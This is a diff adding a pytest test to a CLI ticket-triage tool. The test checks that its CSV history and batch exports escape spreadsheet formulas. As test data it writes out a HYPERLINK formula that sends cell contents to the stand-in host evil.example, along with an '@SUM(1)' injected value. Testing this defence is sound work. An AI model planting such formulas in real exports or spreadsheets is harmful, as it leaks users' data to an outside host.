@@ -51,3 +51,26 @@ def test_dev_null_stays_a_character_device(
     after = os.stat("/dev/null")
     assert stat.S_ISCHR(after.st_mode)
     assert (after.st_ino, after.st_rdev) == (before.st_ino, before.st_rdev)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Prefect worker crash")'
+
+
+def test_history_and_batch_csv_never_start_a_formula(run_cli: CliRunner, tmp_path: Path) -> None:
+    import csv
+    import json
+
+    ticket = tmp_path / "t.txt"
+    ticket.write_text(FORMULA + "\nworker pod crashes after helm upgrade to 3.4.7\n")
+    assert run_cli("triage", str(ticket)).returncode == 0
+    batch_in = tmp_path / "in.jsonl"
+    batch_in.write_text(json.dumps({"id": "@SUM(1)", "text": FORMULA}) + "\n")
+    batch = run_cli("batch", str(batch_in), "--format", "csv", "-o", str(tmp_path / "b.csv"))
+    assert batch.returncode == 0, batch.stderr
+    proc = run_cli("history", "export", "-o", str(tmp_path / "h.csv"))
+    assert proc.returncode == 0, proc.stderr
+    for name in ("h.csv", "b.csv"):
+        with open(tmp_path / name, newline="", encoding="utf-8") as fh:
+            cells = [c for row in csv.reader(fh) for c in row]
+        assert any(c.startswith("'=HYPERLINK") or c == "'@SUM(1)" for c in cells), name
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], name
